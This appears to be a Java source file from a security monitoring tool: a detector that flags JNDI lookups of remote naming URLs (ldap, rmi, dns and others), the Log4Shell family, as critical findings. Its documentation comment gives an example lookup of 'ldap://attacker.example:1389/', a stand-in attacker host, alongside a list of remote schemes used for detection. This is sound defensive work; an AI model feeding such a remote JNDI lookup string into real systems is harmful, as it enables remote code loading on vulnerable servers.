package dev.sinkwatch.collector.detect;

import dev.sinkwatch.collector.model.Detector;
import dev.sinkwatch.collector.model.Finding;
import dev.sinkwatch.collector.model.Observation;
import dev.sinkwatch.collector.model.Severity;
import dev.sinkwatch.contract.SinkKind;

import java.util.Locale;
import java.util.Set;

/**
 * {@code jndi.remote}: a JNDI lookup of a remote naming URL ({@code ldap:}, {@code ldaps:}, {@code rmi:},
 * {@code dns:}, {@code iiop:}, {@code iiopname:}, {@code corbaname:}, {@code nis:}, {@code nds:}) — the Log4Shell
 * family — CRITICAL, no baseline needed. {@code java:comp/env/...} and plain names are fine.
 *
 * <p>Example: {@code lookup ldap://attacker.example:1389/<path>} → CRITICAL; {@code lookup java:comp/env/jdbc/orders}
 * → nothing.
 */
final class JndiRemoteDetector implements TargetRule {

    static final Set<String> REMOTE_SCHEMES = Set.of("ldap", "ldaps", "rmi", "dns", "iiop", "iiopname",
            "corbaname", "nis", "nds");

    public Detector detector() {
        return Detector.JNDI_REMOTE;
    }

    @Override
    public SinkKind kind() {
        return SinkKind.JNDI;
    }

    static String scheme(String name, String schemeAttribute) {
        if (schemeAttribute != null && !schemeAttribute.isBlank()) {
            return schemeAttribute.trim().toLowerCase(Locale.ROOT);
        }
        String n = name.trim();
        int colon = n.indexOf(':');
        if (colon <= 0) {
            return "";
        }
        return n.substring(0, colon).toLowerCase(Locale.ROOT);
    }

    @Override
    public Finding evaluate(Observation o, DetectionContext ctx) {
        if (o.kind() != SinkKind.JNDI) {
            return null;
        }
        String scheme = scheme(o.target(), o.attributes().get("url.scheme"));
        if (!REMOTE_SCHEMES.contains(scheme)) {
            // the attribute may be absent or wrong; the name itself decides too
            scheme = scheme(o.target(), null);
            if (!REMOTE_SCHEMES.contains(scheme)) {
                return null;
            }
        }
        return Findings.of(detector(), Severity.CRITICAL, "Remote JNDI lookup (" + scheme + "): "
                        + Findings.shorten(o.target()) + " at " + o.callSite().id(), o, ctx.nowMillis(),
                Findings.evidence("scheme", scheme, "baseline", "day-0 rule, no baseline needed"));
    }
}
